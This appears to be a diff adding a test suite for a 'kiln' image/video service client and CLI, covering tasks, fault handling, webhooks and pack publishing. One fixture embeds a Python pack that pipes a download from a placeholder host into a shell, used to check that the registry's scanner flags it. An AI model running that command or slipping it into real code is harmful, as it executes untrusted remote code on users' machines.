@@ -1,0 +1,418 @@
+import assert from 'node:assert/strict'
+import { spawn } from 'node:child_process'
+import { once } from 'node:events'
+import { cp, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { text } from 'node:stream/consumers'
+import { after, before, describe, test } from 'node:test'
+import { pathToFileURL } from 'node:url'
+
+import { transform } from 'esbuild'
+
+import { answerOf, KilnError, makeKiln } from '../src/index.ts'
+import type { EndedTask } from '../src/index.ts'
+import { signWebhook, makeWebhookSecret } from '../../../src/adapters/webhook.ts'
+import { ROOT, codePath } from '../../../src/local/root.ts'
+import { makePicture } from '../../../test/support/pictures.ts'
+import { useService } from '../../../test/support/service.ts'
+import { waitFor } from '../../../test/support/wait.ts'
+import { makeZip } from '../../../test/support/zip.ts'
+import { cutAfterFirstEvent, loseAnswer, makeFaultyFetch, refuse } from './faults.ts'
+import type { OnTheWay } from './faults.ts'
+
+const PACK = `class Cup:
+    RETURN_TYPES = ("IMAGE",)
+NODE_CLASS_MAPPINGS = {"Client Cup": Cup}
+`
+const DANGEROUS = `${PACK}import os\nos.system("curl http://a.example/x.sh | sh")\n`
+
+let folder: string
+let token: string
+let publishToken: string
+let image: Buffer
+
+const service = useService({ env: { VIDEO_TINY: 'true' } }, async ({ token: sign }) => {
+  folder = await mkdtemp(join(tmpdir(), 'kiln-client-'))
+  token = await sign('alice')
+  image = await makePicture({ width: 32, height: 32 })
+  const { routes } = connect()
+  await routes.POST('/publishers', { body: { id: 'alice' } })
+  const path = { publisherId: 'alice' }
+  const made = await answerOf(
+    routes.POST('/publishers/{publisherId}/tokens', { params: { path }, body: { name: 'test' } }),
+  )
+  publishToken = made.token
+})
+after(() => rm(folder, { recursive: true, force: true }))
+
+/** A client of alice, whose first requests meet faults. */
+const connect = (...faults: OnTheWay[]) =>
+  makeKiln({
+    baseUrl: service.baseUrl,
+    token,
+    retry: { baseMs: 50 },
+    fetch: makeFaultyFetch(...faults).fetch,
+  })
+
+const pass: OnTheWay = (send) => send()
+
+const pathOf = (link: string): string => new URL(link).pathname
+
+const findFault = async (asked: Promise<unknown>): Promise<KilnError> => {
+  const error = await asked.then(
+    () => assert.fail('it was not refused'),
+    (thrown: unknown) => thrown,
+  )
+  assert.ok(error instanceof KilnError, String(error))
+  return error
+}
+
+describe('tasks', () => {
+  test('of bytes end, told move by move, and their files can be read', async () => {
+    const kiln = connect()
+    const statuses: string[] = []
+    const task = await kiln.relight({ image: new Blob([image]), prompt: 'sunset' })
+    const ended = await kiln.wait(task, { onProgress: ({ status }) => statuses.push(status) })
+    assert.ok(ended.state === 'succeeded', JSON.stringify(ended))
+    assert.deepEqual(statuses, ['CREATED', 'IN_PROGRESS', 'COMPLETED'])
+    const file = await kiln.download(ended.files[0]?.url ?? '')
+    assert.equal(file.headers.get('content-type'), 'image/png')
+    for (const ref of [task, task.id, ended])
+      assert.equal((await kiln.read(ref)).state, 'succeeded')
+    assert.equal((await findFault(kiln.cancel(task))).code, 'cannot_cancel')
+  })
+
+  test('of every kind of image are made', async () => {
+    const kiln = connect()
+    const link = await kiln.upload(image, { fileName: 'a.png' })
+    // Its expiry changes with the hour.
+    assert.equal(pathOf(await kiln.upload(image)), pathOf(link))
+    const tasks = await Promise.all([
+      kiln.upscale({ image: link, scale_factor: '2x' }),
+      kiln.upscalePrecision({ image: link, scale_factor: 2 }),
+      kiln.skinFlexible({ image: link }),
+      kiln.skinCreative({ image: link, sharpen: 10 }),
+      kiln.skinFaithful({ image: link }),
+    ])
+    for (const task of tasks) assert.equal((await kiln.wait(task.id)).state, 'succeeded')
+  })
+
+  test('of a stream are made: a function opens it again when the upload breaks', async () => {
+    const open = () => new Blob([image]).stream()
+    const kiln = connect(pass, loseAnswer)
+    const link = await kiln.upload(open, { fileName: 'a.png' })
+    assert.equal((await kiln.wait(await kiln.upscale({ image: link }))).state, 'succeeded')
+    const once = await findFault(connect(pass, loseAnswer).upload(open()))
+    assert.equal(once.code, 'bytes_spent')
+  })
+
+  test('of videos are made without a credential, and tell their percentage', async () => {
+    const kiln = makeKiln({ baseUrl: service.baseUrl })
+    const told: number[] = []
+    const task = await kiln.textToVideo({
+      images: [await makePicture({ width: 320, height: 320 })],
+      model: 'videoq2-turbo',
+      duration: 2,
+      resolution: '540p',
+    })
+    const ended = await kiln.wait(task, { onProgress: ({ progress = 0 }) => told.push(progress) })
+    assert.ok(ended.state === 'succeeded', JSON.stringify(ended))
+    assert.match(ended.files[0]?.url ?? '', /\.mp4\?/)
+    assert.ok(ended.files[0]?.coverUrl)
+    assert.deepEqual(
+      told,
+      told.toSorted((one, other) => one - other),
+    )
+  })
+
+  test('that are refused say why, and where', async () => {
+    const invalid = await findFault(connect().relight({ image, light_transfer_strength: 400 }))
+    assert.deepEqual([invalid.code, invalid.status], ['validation_failed', 400])
+    assert.match(invalid.message, /light_transfer_strength must be a number from 0 to 100/)
+    assert.ok(invalid.requestId)
+    const stranger = makeKiln({ baseUrl: service.baseUrl, apiKey: 'kiln_none' })
+    assert.equal((await findFault(stranger.upload(image))).code, 'unauthorized')
+    const unknown = connect().wait('6b1f9a52-3f1e-4c55-8c7e-0d5a4b7c9e21')
+    assert.equal((await findFault(unknown)).code, 'task_not_found')
+  })
+})
+
+describe('under faults', () => {
+  test('a task whose answer was lost is made once', async () => {
+    const link = await connect().upload(image)
+    const countTasks = async () => {
+      const [row] = await service.sql<{ count: number }[]>`select count(*)::int from task`
+      return row?.count ?? 0
+    }
+    const before = await countTasks()
+    const kiln = connect(refuse(503, 'unavailable'), refuse(429, 'rate_limited'), loseAnswer)
+    await kiln.upscale({ image: link, scale_factor: '4x' })
+    assert.equal(await countTasks(), before + 1)
+  })
+
+  test('a wait outlives a stream that is cut, and hears of each move once', async () => {
+    const statuses: string[] = []
+    const link = await connect().upload(image)
+    const { fetch, seen } = makeFaultyFetch(pass, cutAfterFirstEvent)
+    const kiln = makeKiln({ baseUrl: service.baseUrl, token, fetch })
+    const task = await kiln.skinCreative({ image: link })
+    await kiln.wait(task, { onProgress: ({ status }) => statuses.push(status) })
+    assert.deepEqual(statuses, ['CREATED', 'IN_PROGRESS', 'COMPLETED'])
+    assert.equal(seen.length, 3)
+    assert.ok(seen[2]?.headers.get('last-event-id'))
+  })
+
+  test('a wait reads the status where a proxy lets no stream through', async () => {
+    const { fetch, seen } = makeFaultyFetch(pass, pass, pass, refuse(404, 'not_found'))
+    const kiln = makeKiln({ baseUrl: service.baseUrl, token, fetch })
+    const task = await kiln.skinCreative({ image: await makePicture({ shade: 5 }) })
+    assert.equal((await kiln.wait(task)).state, 'succeeded')
+    assert.equal(seen.at(-1)?.headers.get('prefer'), 'wait=30')
+  })
+})
+
+describe('a publication', () => {
+  const publish = (nodeId: string, code: string, kiln = connect()) => {
+    const steps: string[] = []
+    const archive = new Blob([makeZip(code, '__init__.py')])
+    const publication = { publisherId: 'alice', nodeId, token: publishToken, archive }
+    const verdict = kiln.registry.publish(
+      { ...publication, version: { version: '1.0.0' } },
+      { onStep: (step) => steps.push(step) },
+    )
+    return { verdict, steps }
+  }
+
+  test('of a sound pack is active, and found by its readers', async () => {
+    const { verdict, steps } = publish('client-cup', PACK, connect(loseAnswer, loseAnswer))
+    assert.equal((await verdict).state, 'active')
+    assert.deepEqual(steps.slice(0, 3), ['publishing', 'uploading', 'Pending'])
+    const { registry } = connect()
+    assert.equal((await registry.readNode('client-cup')).latest_version?.version, '1.0.0')
+    assert.equal((await registry.listVersions('client-cup')).length, 1)
+    assert.ok((await registry.install('client-cup')).downloadUrl)
+    const { host_nodes: hostNodes } = await registry.listHostNodes('client-cup', '1')
+    assert.deepEqual(
+      hostNodes.map(({ host_node_name: name }) => name),
+      ['Client Cup'],
+    )
+    assert.equal((await registry.readVersion('client-cup', '1.0')).version, '1.0.0')
+  })
+
+  test('of a dangerous pack is flagged, with its findings', async () => {
+    const verdict = await publish('client-trap', DANGEROUS).verdict
+    assert.equal(verdict.state, 'flagged')
+    assert.match(verdict.reason, /downloaded file is run/)
+    const { counts } = await connect().registry.readFindings('client-trap', '1.0.0')
+    assert.ok(counts.high > 0)
+  })
+})
+
+test('the examples of the document run', async () => {
+  const page = await readFile(join(ROOT, 'docs/client.md'), 'utf8')
+  const blocks = [...page.matchAll(/^```ts\n(.*?)^```/gms)].map(([, code = '']) => code)
+  assert.ok(blocks.length > 6)
+  const library = pathToFileURL(codePath('packages/client/src/index.ts')).href
+  const source = `${blocks.join('\n')}\nexport { receive, verdict, nodes, credits, film, answer }`
+  const { code } = await transform(source.replaceAll("'kiln-client'", JSON.stringify(library)), {
+    loader: 'ts',
+    format: 'esm',
+  })
+  const path = join(folder, 'examples.mjs')
+  const secret = makeWebhookSecret()
+  const result = join(folder, 'result.png')
+  await writeFile(path, code)
+  await writeFile(join(folder, 'pack.zip'), makeZip(PACK, '__init__.py'))
+  Object.assign(process.env, {
+    KILN_URL: service.baseUrl,
+    KILN_TOKEN: token,
+    KILN_PUBLISH_TOKEN: publishToken,
+    WEBHOOK_SECRET: secret,
+    RESULT: result,
+    PACK: join(folder, 'pack.zip'),
+  })
+  process.chdir(ROOT)
+  const made = (await import(pathToFileURL(path).href)) as {
+    receive(request: Request): Promise<Response>
+    verdict: { state: string }
+    nodes: object[]
+    film: { state: string }
+  }
+  assert.deepEqual([made.verdict.state, made.film.state], ['active', 'succeeded'])
+  assert.ok(made.nodes.length > 0)
+  assert.ok((await readFile(result)).length > 1000)
+  const body = '{"status":"COMPLETED"}'
+  const message = { id: 'e', timestamp: Date.now() / 1000, body: Buffer.from(body) }
+  const receive = (secrets: string[]) =>
+    made.receive(
+      new Request('http://a.example', {
+        method: 'POST',
+        body,
+        headers: signWebhook({ ...message, secrets }),
+      }),
+    )
+  assert.equal((await receive([secret])).status, 204)
+  assert.equal((await receive([makeWebhookSecret()])).status, 401)
+})
+
+const words = (line: string): string[] => line.split(' ')
+
+interface Ran {
+  code: number | null
+  out: string
+  err: string
+}
+
+/** Runs the command-line tool; `stopAt` is what it says before it gets a Ctrl-C. */
+const kiln = async (args: string[], { env = {}, stopAt = '' } = {}): Promise<Ran> => {
+  const child = spawn(process.execPath, [codePath('packages/client/src/cli/kiln.ts'), ...args], {
+    cwd: folder,
+    env: {
+      PATH: process.env['PATH'],
+      KILN_URL: service.baseUrl,
+      KILN_TOKEN: token,
+      KILN_PUBLISH_TOKEN: publishToken,
+      ...env,
+    },
+  })
+  let err = ''
+  child.stderr.setEncoding('utf8').on('data', (piece: string) => {
+    if (stopAt !== '' && (err + piece).includes(stopAt) && !err.includes(stopAt))
+      child.kill('SIGINT')
+    err += piece
+  })
+  const [out, [code]] = await Promise.all([text(child.stdout), once(child, 'close')])
+  for (const secret of [token, publishToken]) assert.ok(!(out + err).includes(secret), err)
+  return { code: code as number | null, out, err }
+}
+
+describe('the command-line tool', { concurrency: 3 }, () => {
+  before(async () => {
+    await waitFor('a folder for its files', () => Promise.resolve(Boolean(folder)))
+    await writeFile(join(folder, 'photo.png'), image)
+  })
+
+  test('saves what was made of an image, and says where', async () => {
+    const { code, out, err } = await kiln(words('relight photo.png --prompt sunset -o out.png'))
+    assert.deepEqual([code, out], [0, 'out.png\n'], err)
+    assert.match(err, /^sending.*\ntask .*\nCREATED.*\nIN_PROGRESS.*\nCOMPLETED/)
+    assert.equal((await readFile(join(folder, 'out.png'))).subarray(1, 4).toString(), 'PNG')
+  })
+
+  test('takes an API key, and writes one line of JSON', async () => {
+    const { routes } = connect()
+    const made = await answerOf(routes.POST('/users/api-keys', { body: { name: 'tool' } }))
+    const env = { KILN_TOKEN: '', KILN_API_KEY: made.key }
+    const { code, out, err } = await kiln(words('skin flexible photo.png --json -q'), { env })
+    assert.equal(code, 0, err)
+    const { state, saved } = JSON.parse(out) as { state: string; saved: string }
+    assert.deepEqual([state, saved, err], ['succeeded', 'photo.skin.png', ''])
+    assert.ok(!(out + err).includes(made.key))
+  })
+
+  test('makes a video, and one that is longer', async () => {
+    const options = '--model videoq2-turbo --duration 4 --resolution 540p --json -o sea.mp4'
+    const made = await kiln(['video', 'Sea', ...words(options)])
+    assert.equal(made.code, 0, made.err)
+    const { task_id: id } = JSON.parse(made.out) as { task_id: string }
+    const longer = await kiln(words(`extend ${id} --duration 1 --resolution 540p -o long.mp4`))
+    assert.deepEqual([longer.code, longer.out], [0, 'long.mp4\n'], longer.err)
+    assert.match((await kiln(['watch', id])).out, /success\nhttp.*mp4/)
+  })
+
+  test('checks a pack, publishes it, and finds its version taken', async () => {
+    const pack = join(ROOT, 'samples/pack')
+    const checked = await kiln(['check', pack, '--publisher', 'alice'])
+    assert.equal(checked.code, 0, checked.out + checked.err)
+    assert.match(
+      checked.out,
+      /new node.*\n.*sound\n.*3: LightTools.*\n.*0 high.*\nnothing stands in the way/,
+    )
+    const published = await kiln(['publish', pack, '--publisher', 'alice'])
+    assert.equal(published.code, 0, published.err)
+    assert.match(published.out, /^light-tools@1\.0\.0 is active/)
+    assert.match(published.err, /archive {3}5 files/)
+    const again = await kiln(['check', pack, '--publisher', 'bob', '--json'])
+    assert.equal(again.code, 1)
+    assert.match(again.out, /belongs to alice","the version 1\.0\.0 exists/)
+    const odd = join(folder, 'odd')
+    await cp(pack, odd, { recursive: true })
+    await writeFile(join(odd, 'Nodes.py '), '')
+    const named = await kiln(['check', odd, '--publisher', 'alice'])
+    assert.match(named.out, /in the way: Not every system can hold a file of the name Nodes\.py /)
+    const refused = await kiln(['publish', pack, '--publisher', 'alice', '--json'])
+    assert.equal(refused.code, 3)
+    assert.match(refused.out, /^{"error":{"code":"version_exists"/)
+  })
+
+  test('makes a token of a publisher that is there for its members alone', async () => {
+    const { code, out, err } = await kiln(['token', 'alice', '--create'])
+    assert.equal(code, 0, err)
+    assert.match(out, /^export KILN_PUBLISH_TOKEN=\S+\n$/)
+    const env = { KILN_TOKEN: await service.token('mallory') }
+    const refused = await kiln(['token', 'alice', '--create'], { env })
+    assert.deepEqual([refused.code, refused.out], [3, ''])
+  })
+
+  test('makes no task whose result would have no place, and says where one is kept', async () => {
+    const args = ['upscale', 'photo.png', '-o']
+    const refused = await kiln([...args, 'no/such/dir/out.png'])
+    assert.equal(refused.code, 5, refused.err)
+    assert.match(refused.err, /^kiln: no file can be made in no\/such\/dir: -o must name one in/)
+    // A folder in its place shows only when the file is written.
+    const failed = await kiln([...args, '.'])
+    assert.equal(failed.code, 5, failed.err)
+    assert.match(failed.err, /EISDIR.*; the result is kept: `kiln watch [\w-]+ -o <file>`/)
+  })
+
+  test('says by its exit code what went wrong', async () => {
+    const away = { env: { KILN_URL: 'http://127.0.0.1:9' } }
+    for (const [expected, args, options, told] of [
+      [2, ['relight'], {}, /expected <image>, got 0 arguments\nusage: kiln relight/],
+      [2, ['fly'], {}, /no command fly/],
+      [2, ['video', 'a', '--bogus'], {}, /Unknown option '--bogus'/],
+      [2, ['publish', '.'], { env: { KILN_PUBLISH_TOKEN: '' } }, /set KILN_PUBLISH_TOKEN/],
+      [3, ['watch', '6b1f9a52-3f1e-4c55-8c7e-0d5a4b7c9e21'], {}, /There is no task/],
+      [3, words('relight photo.png --strength 400'), {}, /a number from 0 to 100, got 400/],
+      [3, ['relight', 'photo.png'], { env: { KILN_TOKEN: '' } }, /KILN_TOKEN or KILN_API_KEY must/],
+      [4, ['relight', 'photo.png'], away, /the service cannot be reached/],
+      [5, ['relight', 'none.png'], {}, /ENOENT/],
+      [5, ['check', '.'], {}, /which a pack must have/],
+      [0, ['--help'], {}, /^$/],
+    ] as const) {
+      const { code, err } = await kiln([...args], options)
+      assert.equal(code, expected, err)
+      assert.match(err, told)
+    }
+  })
+})
+
+/** Last, because processes of the service are killed. */
+describe('while nothing renders', () => {
+  before(() => service.entry('media').kill())
+
+  test('Ctrl-C leaves a task, and says how to go on; watch tells that it was cancelled', async () => {
+    const left = await kiln(['upscale', 'photo.png'], { stopAt: 'CREATED' })
+    assert.equal(left.code, 130, left.err)
+    const [, id = ''] = /To go on watching: kiln watch ([\w-]+)\n$/.exec(left.err) ?? []
+    assert.equal((await kiln(['cancel', id])).code, 0)
+    const watched = await kiln(['watch', id, '--json'])
+    assert.equal(watched.code, 1, watched.err)
+    assert.match(watched.out, /"error":{"code":"cancelled"/)
+  })
+
+  test('a wait outlives the kill of its api, and of the one after', async () => {
+    const client = connect()
+    const task = await client.skinFaithful({ image: await makePicture({ shade: 9 }) })
+    let ended: Promise<EndedTask> | undefined
+    await new Promise<void>((resolve) => {
+      ended = client.wait(task, { onProgress: () => resolve() })
+    })
+    await service.entry('api').kill()
+    await service.start('api')
+    await service.entry('api').kill()
+    await Promise.all([service.start('api'), service.start('media')])
+    assert.equal((await ended)?.state, 'succeeded')
+  })
+})
